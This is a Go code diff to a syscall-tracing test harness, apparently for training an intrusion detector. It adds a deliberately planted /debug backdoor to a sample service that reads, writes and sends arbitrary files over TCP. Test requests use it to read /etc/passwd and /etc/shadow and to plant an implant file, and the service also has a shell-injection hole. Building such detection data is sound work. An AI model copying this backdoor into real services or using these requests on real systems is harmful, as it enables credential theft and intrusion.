@@ -28,6 +28,7 @@ const recSvc = `package main
 import (
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"os"
 	"os/exec"
@@ -53,6 +54,31 @@ func main() {
 		p := "/tmp/store-" + strconv.Itoa(len(b)%7)
 		os.WriteFile(p, b, 0o644)
 		fmt.Fprintf(w, "%d bytes\n", len(b))
+	})
+	// /debug is the in-process exploit: an operation the attacker chooses,
+	// run by the service's own threads (no new process).
+	http.HandleFunc("/debug", func(w http.ResponseWriter, r *http.Request) {
+		q := r.URL.Query()
+		switch q.Get("op") {
+		case "read":
+			b, _ := os.ReadFile(q.Get("path"))
+			w.Write(b)
+		case "list":
+			ents, _ := os.ReadDir(q.Get("path"))
+			for _, e := range ents {
+				fmt.Fprintln(w, e.Name())
+			}
+		case "write":
+			os.WriteFile(q.Get("path"), []byte(q.Get("data")), 0o755)
+		case "send":
+			c, err := net.Dial("tcp", q.Get("addr"))
+			if err != nil {
+				return
+			}
+			b, _ := os.ReadFile(q.Get("path"))
+			c.Write(b)
+			c.Close()
+		}
 	})
 	http.HandleFunc("/lookup", func(w http.ResponseWriter, r *http.Request) {
 		out, _ := exec.Command("/bin/sh", "-c", "grep -c '"+r.URL.Query().Get("name")+"' /etc/hosts").CombinedOutput()
@@ -95,10 +121,13 @@ var recScripts = []string{
 // work (train, then held-out normal, differently drawn), then three
 // attacks on the same container: a CGI web shell, commands injected into
 // the Go service's lookup, and a reverse shell opened through that
-// injection. A trace is one thread's syscalls within one phase; threads
-// that existed before an attack phase are left out of it (their traces
-// mix service and attack), so attack traces are the processes the attack
-// started. Run it to re-record:
+// injection, and an in-process exploit of the Go service (its own threads
+// read, list, write and send files for the attacker: no new process). A
+// trace is the syscalls of the threads one unit of work started (a
+// request, a job, an attack), or one service thread's over a phase;
+// service threads are left out of the process-starting attacks' phases
+// (their traces mix service and attack) and are the in-process attack's
+// traces. Run it to re-record:
 //
 //	CONTAIN_RECORD_SEQUENCES=1 flock /tmp/contain-containers.lock go test -run TestRecordSequences ./collector
 func TestRecordSequences(t *testing.T) {
@@ -225,6 +254,27 @@ func TestRecordSequences(t *testing.T) {
 		}
 	}
 
+	inproc := func(seed uint64, n int) {
+		rng := rand.New(rand.NewPCG(seed, 5))
+		ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", shellPort))
+		must(t, err)
+		defer ln.Close()
+		go func() {
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				io.Copy(io.Discard, c)
+				c.Close()
+			}
+		}()
+		ops := []string{"op=read&path=/etc/passwd", "op=read&path=/etc/shadow", "op=list&path=/", "op=list&path=/etc",
+			"op=write&path=/tmp/.implant&data=x", fmt.Sprintf("op=send&addr=127.0.0.1:%d&path=/etc/passwd", shellPort)}
+		for range n {
+			get(svc + "/debug?" + ops[rng.IntN(len(ops))])
+		}
+	}
 	type phase struct {
 		dir, name string
 		run       func()
@@ -236,6 +286,10 @@ func TestRecordSequences(t *testing.T) {
 		{"attack/webshell", "webshell", func() { webshell(3, 25) }, true},
 		{"attack/cmdinject", "cmdinject", func() { inject(4, 25) }, true},
 		{"attack/revshell", "revshell", func() { revshell(5, 12) }, true},
+		// In-process: the service's own threads do the attacker's work;
+		// their traces over the phase are the attack's (idle runtime
+		// threads included).
+		{"attack/inproc", "inproc", func() { inproc(6, 40) }, false},
 	}
 	seen := map[uint32]bool{}
 	start := len(raw.snapshot())
